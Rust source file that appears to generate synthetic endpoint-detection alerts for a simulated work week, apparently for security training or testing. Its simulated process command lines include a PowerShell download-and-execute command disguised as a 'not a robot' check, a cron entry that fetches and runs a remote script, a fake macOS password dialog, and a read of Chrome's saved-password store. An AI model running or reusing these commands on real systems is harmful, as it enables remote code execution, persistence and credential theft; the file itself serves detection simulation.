//! The other alerts of a working week: short stories from a dozen moulds, placed by the seed.

use super::{
    Account, Activity, Cast, Detection, Disposition, Story, Technique,
    fleet::{self, Fleet, System},
    techniques as t,
};
use crate::draw::Draw;

/// How many are told.
pub const COUNT: usize = 44;

/// What a mould fills in: severity, confidence, pattern, texts and what the sensor did.
struct Mould {
    system: System,
    tell: fn(&mut Cast<'_>) -> usize,
    pattern: u32,
    name: &'static str,
    description: &'static str,
    severity: u8,
    technique: Technique,
    disposition: Disposition,
}

const MOULDS: &[Mould] = &[
    Mould {
        system: System::Windows,
        tell: unsigned_from_downloads,
        pattern: 10137,
        name: "UnsignedFromDownloads",
        description: "An unsigned program was started from a user's downloads folder.",
        severity: 30,
        technique: t::USER_EXECUTION,
        disposition: Disposition::Detected,
    },
    Mould {
        system: System::Windows,
        tell: known_bad_file,
        pattern: 10120,
        name: "KnownMalware",
        description: "A file that is known to be malicious was written to disk.",
        severity: 70,
        technique: t::USER_EXECUTION,
        disposition: Disposition::Quarantined,
    },
    Mould {
        system: System::Windows,
        tell: remote_tool,
        pattern: 10502,
        name: "RemoteAccessTool",
        description: "A remote access tool that is unusual in this organization was started.",
        severity: 50,
        technique: t::REMOTE_ACCESS,
        disposition: Disposition::Detected,
    },
    Mould {
        system: System::Windows,
        tell: port_scanner,
        pattern: 10466,
        name: "NetworkScanner",
        description: "A network scanner was started.",
        severity: 50,
        technique: t::NETWORK_DISCOVERY,
        disposition: Disposition::Detected,
    },
    Mould {
        system: System::Windows,
        tell: run_key,
        pattern: 10371,
        name: "AutostartFromProfile",
        description: "A program in a user's profile was registered to start with the session.",
        severity: 50,
        technique: t::RUN_KEY,
        disposition: Disposition::Detected,
    },
    Mould {
        system: System::Windows,
        tell: browser_passwords,
        pattern: 10294,
        name: "BrowserPasswordStoreRead",
        description: "A process that is no browser read a browser's password store.",
        severity: 70,
        technique: t::BROWSER_PASSWORDS,
        disposition: Disposition::Killed,
    },
    Mould {
        system: System::Windows,
        tell: renamed_binary,
        pattern: 10318,
        name: "RenamedSystemBinary",
        description: "A copy of a system program ran under another name.",
        severity: 50,
        // Hunters' findings come as endpoint alerts under the vendor's own tactic too.
        technique: t::OVERWATCH,
        disposition: Disposition::Detected,
    },
    Mould {
        system: System::Windows,
        tell: account_listing,
        pattern: 10455,
        name: "AccountDiscovery",
        description: "Domain accounts were listed.",
        severity: 10,
        technique: t::ACCOUNT_DISCOVERY,
        disposition: Disposition::Detected,
    },
    Mould {
        system: System::Windows,
        tell: package_manager,
        pattern: 10141,
        name: "ScriptInstallsSoftware",
        description: "A script installed software from the internet.",
        severity: 30,
        technique: t::COMMAND_SHELL,
        disposition: Disposition::Detected,
    },
    Mould {
        system: System::Windows,
        tell: clipboard_command,
        pattern: 10344,
        name: "CommandFromRunDialog",
        description: "A long command was started from the desktop's run dialog.",
        severity: 70,
        technique: t::POWERSHELL,
        disposition: Disposition::Blocked,
    },
    Mould {
        system: System::Mac,
        tell: mac_disk_image,
        pattern: 20151,
        name: "ScriptFromDiskImageMac",
        description: "A script from a mounted disk image asked for a password.",
        severity: 50,
        technique: t::UNIX_SHELL,
        disposition: Disposition::Detected,
    },
    Mould {
        system: System::Linux,
        tell: linux_cron,
        pattern: 30214,
        name: "CronDownloadLinux",
        description: "A cron job that downloads and runs a script was written.",
        severity: 70,
        technique: t::CRON,
        disposition: Disposition::Detected,
    },
];

/// The further alerts of a seed, each a story of its own.
#[must_use]
pub fn stories(seed: u64, fleet: &Fleet) -> Vec<Story> {
    let mut place = Draw::new(seed, "background");
    (0..COUNT)
        .map(|index| {
            let mould = &MOULDS[index % MOULDS.len()];
            let host = match mould.system {
                System::Mac => fleet::MAC,
                System::Linux => fleet::LINUX,
                // Some share a scenario's host, as on a real Monday; a few belong to the child organization.
                System::Windows if index % 17 == 0 => 24 + index / 17 % 2,
                System::Windows => usize::try_from(place.number(5, 23)).unwrap_or(5),
            };
            let minutes = place.signed(300, 6 * 24 * 60);
            let name = format!("background-{index}");
            let mut cast = Cast::new(
                fleet,
                seed,
                &name,
                host,
                fleet.hosts[host].owner,
                minutes * 60_000 + place.signed(0, 59_999),
            );
            let process = (mould.tell)(&mut cast);
            let at = cast.story.processes[process].started + 900;
            cast.detects(Detection {
                at,
                process,
                pattern: mould.pattern,
                name: mould.name,
                description: mould.description,
                severity: mould.severity,
                confidence: if mould.severity >= 70 { 80 } else { 60 },
                technique: mould.technique,
                disposition: mould.disposition,
                prevalence: if mould.severity >= 50 {
                    ("low", "unique")
                } else {
                    ("common", "common")
                },
            });
            cast.finish()
        })
        .collect()
}

fn unsigned_from_downloads(cast: &mut Cast<'_>) -> usize {
    let explorer = cast.desktop();
    let tool = *cast.draw.pick(&[
        "pdf-merge-setup.exe",
        "FontPack.exe",
        "ScreenRuler.exe",
        "convert_free.exe",
    ]);
    let image = format!(r"{}\Downloads\{tool}", cast.profile());
    let run = cast.process(0, explorer, &image, &format!(r#""{image}" "#));
    cast.calls(1_000, run, "updates.example.com", "192.0.2.80", 443);
    run
}

fn known_bad_file(cast: &mut Cast<'_>) -> usize {
    let explorer = cast.desktop();
    let browser = cast.process(0, explorer, r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default"#);
    let (domain, address) = (cast.strange_domain(), cast.strange_address());
    cast.calls(200, browser, &domain, &address, 443);
    let path = format!(r"{}\Downloads\{}.exe", cast.profile(), cast.draw.letters(8));
    cast.writes(800, browser, &path);
    browser
}

fn remote_tool(cast: &mut Cast<'_>) -> usize {
    let explorer = cast.desktop();
    let image = format!(r"{}\Downloads\AnyDesk.exe", cast.profile());
    let run = cast.process(0, explorer, &image, &format!(r#""{image}" --control"#));
    cast.calls(700, run, "relay-3f1a.net.anydesk.com", "192.0.2.44", 443);
    run
}

fn port_scanner(cast: &mut Cast<'_>) -> usize {
    let explorer = cast.desktop();
    let shell = cast.process(
        -5_000,
        explorer,
        r"C:\Windows\System32\cmd.exe",
        r#""C:\Windows\System32\cmd.exe" "#,
    );
    let run = cast.process(
        0,
        shell,
        r"C:\Tools\advanced_port_scanner_console.exe",
        "advanced_port_scanner_console.exe /r:10.20.0.1-10.20.3.254",
    );
    for last in 1..4 {
        cast.does(
            300 * last,
            run,
            Activity::Connect {
                address: format!("10.20.0.{last}"),
                port: 445,
                user_agent: None,
                url: None,
            },
        );
    }
    run
}

fn run_key(cast: &mut Cast<'_>) -> usize {
    let explorer = cast.desktop();
    let image = format!(r"{}\AppData\Roaming\Spot\Spot.exe", cast.profile());
    let run = cast.process(0, explorer, &image, &format!(r#""{image}" --autostart"#));
    let key = format!(
        r"HKU\{}\Software\Microsoft\Windows\CurrentVersion\Run",
        cast.user.sid
    );
    cast.sets(600, run, &key, "Spot", &image);
    run
}

fn browser_passwords(cast: &mut Cast<'_>) -> usize {
    let explorer = cast.desktop();
    let image = format!(
        r"{}\AppData\Local\Temp\{}.exe",
        cast.profile(),
        cast.draw.letters(5)
    );
    let run = cast.process(0, explorer, &image, &image);
    let store = format!(
        r"{}\AppData\Local\Google\Chrome\User Data\Default\Login Data",
        cast.profile()
    );
    cast.does(500, run, Activity::FileRead { path: store });
    cast.ends(run, 1_500);
    run
}

fn renamed_binary(cast: &mut Cast<'_>) -> usize {
    let explorer = cast.desktop();
    let shell = cast.process(
        -2_000,
        explorer,
        r"C:\Windows\System32\cmd.exe",
        r#""C:\Windows\System32\cmd.exe" "#,
    );
    cast.process(
        0,
        shell,
        r"C:\ProgramData\svch0st.exe",
        r"C:\ProgramData\svch0st.exe /c dir C:\Users",
    )
}

fn account_listing(cast: &mut Cast<'_>) -> usize {
    let explorer = cast.desktop();
    let shell = cast.process(
        -2_000,
        explorer,
        r"C:\Windows\System32\cmd.exe",
        r#""C:\Windows\System32\cmd.exe" "#,
    );
    let name = cast.user.name.clone();
    let run = cast.process(
        0,
        shell,
        r"C:\Windows\System32\net.exe",
        &format!("net  user {name} /domain"),
    );
    cast.ends(run, 1_200);
    run
}

fn package_manager(cast: &mut Cast<'_>) -> usize {
    let explorer = cast.desktop();
    let shell = cast.process(
        -20_000,
        explorer,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" "#,
    );
    let run = cast.process(
        0,
        shell,
        r"C:\ProgramData\chocolatey\choco.exe",
        "choco  install -y git nodejs-lts",
    );
    cast.calls(900, run, "community.chocolatey.org", "192.0.2.21", 443);
    run
}

fn clipboard_command(cast: &mut Cast<'_>) -> usize {
    let explorer = cast.desktop();
    let domain = cast.strange_domain();
    cast.process(0, explorer, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", &format!("\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -w h -c \"iwr {domain}/v | iex\" # I am not a robot: verification"))
}

fn mac_disk_image(cast: &mut Cast<'_>) -> usize {
    let launchd = cast.process_as(
        -86_400_000,
        None,
        "/sbin/launchd",
        "/sbin/launchd",
        Account::root(),
        16384,
    );
    let user = Account {
        sid: "502".to_owned(),
        domain: String::new(),
        ..cast.user.clone()
    };
    let terminal = cast.process_as(
        -30_000,
        Some(launchd),
        "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
        "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
        user,
        8192,
    );
    let shell = cast.process(-28_000, terminal, "/bin/zsh", "/bin/zsh -l");
    let run = cast.process(0, shell, "/usr/bin/osascript", "osascript -e display dialog \"Update needs your password\" default answer \"\" with hidden answer");
    cast.does(
        500,
        run,
        Activity::FileWrite {
            path: "/private/tmp/.pw".to_owned(),
            sha256: None,
        },
    );
    run
}

fn linux_cron(cast: &mut Cast<'_>) -> usize {
    let init = cast.process_as(
        -86_400_000,
        None,
        "/usr/lib/systemd/systemd",
        "/sbin/init",
        Account::root(),
        16384,
    );
    let web = Account {
        name: "www-data".to_owned(),
        domain: String::new(),
        sid: "33".to_owned(),
        mail: None,
    };
    let php = cast.process_as(
        -3_600_000,
        Some(init),
        "/usr/sbin/php-fpm8.1",
        "php-fpm: pool www",
        web,
        8192,
    );
    let (domain, address) = (cast.strange_domain(), cast.strange_address());
    let shell = cast.process(
        0,
        php,
        "/bin/sh",
        &format!(
            "sh -c (crontab -l; echo '*/5 * * * * curl -s http://{domain}/k.sh | bash') | crontab -"
        ),
    );
    cast.calls(700, shell, &domain, &address, 80);
    cast.does(
        800,
        shell,
        Activity::FileWrite {
            path: "/var/spool/cron/crontabs/www-data".to_owned(),
            sha256: None,
        },
    );
    shell
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_two_processes_of_a_seed_share_a_number_on_a_host() {
        let fleet = Fleet::new(5);
        let mut seen = std::collections::HashSet::new();
        for story in stories(5, &fleet)
            .iter()
            .chain(&super::super::scenarios(5, &fleet))
        {
            for process in &story.processes {
                assert!(
                    seen.insert((story.host, process.uid)),
                    "{} twice on host {}",
                    process.uid,
                    story.host
                );
            }
        }
    }

    #[test]
    fn nothing_of_the_week_lies_in_the_future() {
        let fleet = Fleet::new(5);
        for story in stories(5, &fleet) {
            assert!(
                story
                    .events
                    .iter()
                    .all(|event| event.at < story.begins_before),
                "{}",
                story.name
            );
        }
    }
}
